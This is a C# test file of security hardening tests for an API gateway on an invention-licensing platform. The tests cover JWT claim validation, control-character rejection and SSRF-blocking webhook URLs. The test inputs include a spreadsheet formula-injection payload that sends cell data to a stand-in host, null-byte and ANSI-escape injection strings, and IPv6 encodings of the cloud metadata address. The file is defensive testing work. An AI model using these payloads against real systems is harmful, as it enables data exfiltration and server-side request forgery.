using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.IdentityModel.JsonWebTokens;
using Microsoft.IdentityModel.Tokens;
using Platform.BuildingBlocks.Auth;
using Platform.Testing;

namespace Gateway.Tests;

/// <summary>The security probe's findings, each reproduced through the gateway (README, Security).</summary>
[Collection(PlatformBehindGateway.Collection)]
public class SecurityHardeningTests(PlatformBehindGateway platform)
{
    private HttpClient WithToken(Dictionary<string, object> claims, TimeSpan? lifetime = null)
    {
        var now = DateTime.UtcNow;
        var token = new JsonWebTokenHandler().CreateToken(new SecurityTokenDescriptor
        {
            Issuer = PlatformRoles.Issuer, Audience = PlatformRoles.Audience, Claims = claims, IssuedAt = now, NotBefore = now,
            Expires = now + (lifetime ?? TimeSpan.FromHours(1)),
            SigningCredentials = new SigningCredentials(new SymmetricSecurityKey(TestTokens.KeyBytes), SecurityAlgorithms.HmacSha256),
        });
        var client = platform.Client();
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
        return client;
    }

    [Fact]
    public async Task A_token_listing_several_roles_is_refused_and_records_nothing()
    {
        var client = WithToken(new() { ["sub"] = "x", ["role"] = new[] { "university", "admin" }, ["org"] = "fudan" });
        var response = await client.PostAsJsonAsync("/api/fx-rates", new { currency = "USD", date = "2026-11-30", rateToCny = "7.1" });
        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await WithToken(new() { ["sub"] = "x", ["role"] = "admin", ["org"] = new[] { "a", "b" } })
            .GetAsync("/api/exchanges")).StatusCode);
    }

    [Theory]
    [InlineData("fudan ")]
    [InlineData("fu dan")]
    [InlineData("复旦")]
    [InlineData("fu\u200Bdan")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
    [InlineData("fudan\u0000")]
    [InlineData("fudan\n")] // "$" in a pattern would let a final newline through
    [InlineData("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")] // 65 characters
    public async Task An_org_that_is_not_a_code_is_refused_never_a_new_tenant_or_a_500(string org)
    {
        var client = WithToken(new() { ["sub"] = "x", ["role"] = "university", ["org"] = org });
        Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/api/payouts")).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await client.PostAsJsonAsync("/api/inventions", new { title = "x" })).StatusCode);
    }

    [Fact]
    public async Task A_token_living_longer_than_24_hours_is_refused()
    {
        Assert.Equal(HttpStatusCode.Unauthorized,
            (await WithToken(new() { ["sub"] = "x", ["role"] = "auditor" }, TimeSpan.FromDays(30)).GetAsync("/api/exchanges")).StatusCode);
        Assert.Equal(HttpStatusCode.OK,
            (await WithToken(new() { ["sub"] = "x", ["role"] = "auditor" }, TimeSpan.FromHours(12)).GetAsync("/api/exchanges")).StatusCode);
    }

    [Theory]
    [InlineData("/api/inventions?q=a%00b")]
    [InlineData("/api/inventions?field=%00")]
    [InlineData("/api/inventions?universityId=fu%00dan")]
    [InlineData("/api/listings?exchange=ST%00EX")]
    [InlineData("/api/payouts?personId=%00")]
    [InlineData("/api/audit/compliance?university=%1b")]
    public async Task A_control_character_in_a_query_is_400_naming_the_parameter(string path)
    {
        var response = await platform.Client("auditor").GetAsync(path);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var parameter = path[(path.IndexOf('?') + 1)..path.IndexOf('=')];
        Assert.NotNull(JsonNode.Parse(await response.Content.ReadAsStringAsync())!["errors"]![parameter]);
    }

    [Fact]
    public async Task A_control_character_in_body_text_is_400_naming_the_field_and_writes_nothing()
    {
        var response = await platform.Client("university", "fudan").PostAsync("/api/inventions", new StringContent("""
            {"title": "Nul\u0000title", "abstract": "a", "field": "ai", "trl": 3,
             "contributors": [{"personId": "p-1", "name": "Li", "share": "1", "mainContributor": true}],
             "ipAssets": [], "rights": {"model": "unit_owned"}, "exportControl": {"class": "free"}}
            """, Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.NotNull(JsonNode.Parse(await response.Content.ReadAsStringAsync())!["errors"]!["$.title"]);
        var objection = await platform.Client("exchange", "STEX").PostAsync($"/api/deals/{platform.AgreementDealId}/objections",
            new StringContent("{\"reason\": \"bad\\u001b[31m\"}", Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.BadRequest, objection.StatusCode);
        // Tab and newline are text.
        var withNewline = await platform.Client("university", "fudan").PostAsJsonAsync("/api/inventions", new
        {
            title = "Line one\nline\ttwo", @abstract = "a", field = "ai", trl = 3,
            contributors = new[] { new { personId = "p-1", name = "Li", share = "1", mainContributor = true } },
            ipAssets = Array.Empty<object>(), rights = new { model = "unit_owned" }, exportControl = new { @class = "free" },
        });
        Assert.Equal(HttpStatusCode.Created, withNewline.StatusCode);
    }

    [Theory]
    [InlineData("https://[::ffff:0:a9fe:a9fe]/hook")] // IPv4-translated 169.254.169.254
    [InlineData("https://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/hook")] // Teredo
    [InlineData("https://[2001:db8::1]/hook")] // documentation
    public async Task Addresses_that_embed_or_reserve_ipv4_are_refused_with_one_message(string url)
    {
        var response = await platform.Client("exchange", "STEX").PostAsJsonAsync("/api/subscriptions", new { url, eventTypes = new[] { "deal.concluded" } });
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var refused = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["errors"]!["url"]![0]!.GetValue<string>();
        var unknownName = await platform.Client("exchange", "STEX").PostAsJsonAsync("/api/subscriptions",
            new { url = "https://no-such-host.invalid/hook", eventTypes = new[] { "deal.concluded" } });
        Assert.Equal(refused, JsonNode.Parse(await unknownName.Content.ReadAsStringAsync())!["errors"]!["url"]![0]!.GetValue<string>());
    }
}
